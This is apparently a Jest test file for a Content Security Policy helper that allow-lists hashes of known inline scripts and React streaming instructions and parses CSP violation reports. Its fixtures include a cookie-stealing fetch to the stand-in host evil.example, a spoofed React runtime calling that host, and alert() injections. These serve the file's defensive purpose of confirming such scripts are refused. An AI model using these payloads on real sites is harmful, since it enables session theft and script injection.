/**
 * @jest-environment node
 */
import { createHash } from 'node:crypto';
import { allowedScriptHashes, isReactInstruction, violationsOf } from './csp';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

const contract = '(function(w){w.__press=[]})(window)';
const loader = "(function(){document.body.dataset.go='1'})()";
const runtime = '$RB=[];$RC=function(a,b){document.getElementById(a).replaceWith(document.getElementById(b))};';
const scripts = { hashes: [sha(contract), sha(loader)], reactRuntimes: [runtime] };

describe('allowedScriptHashes', () => {
  it("names the site's constant scripts and React's instructions, never another inline script in the page", () => {
    const injected = "fetch('https://evil.example/?c='+document.cookie)";
    const first = `${runtime}$RC("B:0","S:0")`;
    const html =
      `<html><head><script>${contract}</script><script type="application/ld+json">{"@type":"Organization"}</script>` +
      `</head><body><p>Artikel</p><script>${injected}</script>` +
      '<script id="niec-boot" type="application/json">{"config":{}}</script>' +
      `<script>${first}</script><script>$RC("B:1","S:1")</script><script>${loader}</script></body></html>`;
    const hashes = allowedScriptHashes(html, scripts);
    expect(new Set(hashes)).toEqual(new Set([sha(contract), sha(loader), sha(first), sha('$RC("B:1","S:1")')]));
    expect(hashes).not.toContain(sha(injected));
  });

  it('names the constants even when the page does not carry them (the policy is fixed, not read from the HTML)', () => {
    expect(allowedScriptHashes('<p>Halo</p>', scripts)).toEqual([sha(contract), sha(loader)]);
  });
});

describe('isReactInstruction', () => {
  it.each([
    '$RC("B:0","S:0")',
    '$RC("B:0","S:0");$RC("B:1","S:1")',
    '$RX("B:2","digest-1")',
    `${runtime}$RC("B:3","S:3")`,
  ])('takes %s as React', (body) => {
    expect(isReactInstruction(body, [runtime])).toBe(true);
  });

  it.each([
    "alert('x')",
    // A runtime React did not write, however it looks, before a real call.
    '$RC=function(){fetch("//evil.example")};$RC("B:0","S:0")',
    '$RC("B:0","S:0");alert(1)',
    '$RC("B:0",alert(1))',
    '$RX("B:0"+alert(1))',
  ])('refuses %s', (body) => {
    expect(isReactInstruction(body, [runtime])).toBe(false);
  });
});

describe('violationsOf', () => {
  it('reads both report formats, without query strings', () => {
    expect(
      violationsOf({
        'csp-report': {
          'document-uri': 'http://localhost:3000/about?utm=1',
          'effective-directive': 'script-src-elem',
          'blocked-uri': 'inline',
          'script-sample': 'window.__injected = true',
        },
      }),
    ).toEqual([
      {
        directive: 'script-src-elem',
        blocked: 'inline',
        page: 'http://localhost:3000/about',
        sample: 'window.__injected = true',
      },
    ]);
    expect(
      violationsOf([
        {
          type: 'csp-violation',
          body: { documentURL: 'http://localhost:3000/', effectiveDirective: 'script-src-elem', blockedURL: 'inline' },
        },
        { type: 'deprecation', body: {} },
      ]),
    ).toEqual([{ directive: 'script-src-elem', blocked: 'inline', page: 'http://localhost:3000/', sample: '' }]);
    expect(violationsOf('nonsense')).toEqual([]);
  });
});
